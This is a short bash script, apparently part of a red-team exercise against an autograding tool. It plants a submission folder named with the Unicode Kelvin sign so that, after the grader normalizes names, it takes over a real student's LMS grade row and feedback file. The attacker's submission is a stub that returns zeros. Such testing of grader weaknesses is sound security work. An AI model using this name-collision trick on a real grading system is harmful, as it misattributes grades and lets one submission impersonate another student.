#!/bin/bash
# Round 24: a folder named with the Kelvin sign (U+212A "Kate", a different name on disk) beside the real learner's
# Kate.zip takes the plain id "Kate": the LMS CSV's "Kate" line and Kate.txt carry the attacker's grade and feedback,
# and the real Kate is "Kate.zip", a name the LMS does not know. (Round 23's bob/ beside bob.zip needed the same
# name on disk; here the names differ until the grader's own NFC makes them one.)
# usage: kelvin_takes_row.sh   (as root, from /work/redteam24, venv active)
set -e
W=/work/redteam24/attacks/r24
O=/tmp/rt24-k3; rm -rf $O; K=$(printf '\u212aate')
mkdir -p $O/src/student "$O/subs/$K/student" $O/subs/bob/student
cp $W/honest_gelu.py $O/src/student/gelu.py
(cd $O/src && python -c "import zipfile; z = zipfile.ZipFile('../subs/Kate.zip', 'w'); z.write('student/gelu.py'); z.close()")
cp $W/honest_gelu.py $O/subs/bob/student/gelu.py
printf 'import numpy as np\ndef run_gelu(x):\n    return np.zeros_like(x)\n' > "$O/subs/$K/student/gelu.py"
ls $O/subs | od -c | head -2
python -m grader batch $O/subs --jobs 1 --stage gelu --db $O/gb.sqlite --feedback $O/fb --lms $O/lms.csv
echo "--- lms.csv"; cat $O/lms.csv; echo "--- feedback files"; ls $O/fb; echo "--- Kate.txt"; head -4 $O/fb/Kate.txt
